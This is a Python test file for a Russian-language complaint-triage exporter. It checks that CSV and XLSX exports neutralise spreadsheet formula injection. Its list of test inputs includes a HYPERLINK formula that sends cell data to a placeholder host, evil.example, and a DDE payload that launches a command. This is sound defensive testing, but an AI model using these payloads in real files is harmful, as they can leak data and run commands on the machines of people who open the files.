"""Exports for people: Russian headers and names, local time, no live formulas."""

import csv
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from triage.export import ExportFormat, column_names, export_rows
from triage.report_list import PublishRow, ReportRow

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "+7 (342) 200-00-00",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",  # DDE
    "\t=1+1",
]


def _report(number: int, title: str) -> ReportRow:
    return ReportRow(
        id=number,
        status="in_progress",
        incident_id=number,
        title=title,
        agency="Пермблагоустройство",
        municipality="Пермский городской округ",
        topic_code="roads_potholes",
        urgent=True,
        created_at=datetime(2025, 3, 3, 4, 30, tzinfo=UTC),
        due_at=None,
        overdue=False,
        escalation_level=0,
        sent_at=None,
        first_answer_at=None,
        resolved_at=None,
        answer_text=title,
        version=1,
    )


ROWS = [_report(n, title) for n, title in enumerate(HOSTILE, start=1)]
COLUMNS = column_names(ReportRow)
ZONE = ZoneInfo("Asia/Yekaterinburg")
TOPICS = {"roads_potholes": "Ямы на дорогах"}


def test_csv_neutralises_formulas_and_speaks_russian(tmp_path: Path) -> None:
    path = tmp_path / "reports.csv"
    export_rows(
        ROWS, columns=COLUMNS, path=path, fmt=ExportFormat.CSV, zone=ZONE, topic_names=TOPICS
    )
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig")))
    assert [row["Заголовок"] for row in rows] == ["'" + title for title in HOSTILE]
    assert [row["Ответ"] for row in rows] == ["'" + title for title in HOSTILE]
    first = rows[0]
    assert first["Статус"] == "в работе" and first["Тема"] == "Ямы на дорогах"
    assert first["Создано"] == "03.03.2025 09:30"  # UTC+5
    assert first["Срочно"] == "да" and first["Срок"] == ""


def test_xlsx_keeps_formula_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "reports.xlsx"
    export_rows(
        ROWS, columns=COLUMNS, path=path, fmt=ExportFormat.XLSX, zone=ZONE, topic_names=TOPICS
    )
    sheet = load_workbook(path).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    assert header[:4] == ["№", "Статус", "Инцидент", "Заголовок"]
    titles = [sheet.cell(row=n + 2, column=4) for n in range(len(HOSTILE))]
    assert [cell.value for cell in titles] == HOSTILE
    assert {cell.data_type for cell in titles} == {"s"}  # never "f": no live formula


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_answers_export_names_the_source_kind(tmp_path: Path, fmt: ExportFormat) -> None:
    row = PublishRow(
        report_id=1,
        post_id=2,
        source_kind="vk_wall",
        source_target="-1",
        post_url="https://vk.com/wall-1_5",
        post_external_id="-1_5",
        answer_text="=1+1",
    )
    path = tmp_path / f"answers.{fmt}"
    export_rows([row], columns=column_names(PublishRow), path=path, fmt=fmt, zone=ZONE)
    if fmt == ExportFormat.CSV:
        (written,) = csv.DictReader(path.open(encoding="utf-8-sig"))
        values = dict(written)
    else:
        sheet = load_workbook(path).active
        assert sheet is not None
        header, first = list(sheet.iter_rows(values_only=True))
        values = dict(zip(header, first, strict=True))  # type: ignore[arg-type]
    assert values["Тип источника"] == "стена ВКонтакте"
    assert values["Идентификатор поста"] == ("'-1_5" if fmt == ExportFormat.CSV else "-1_5")
    assert values["Ответ"] == ("'=1+1" if fmt == ExportFormat.CSV else "=1+1")
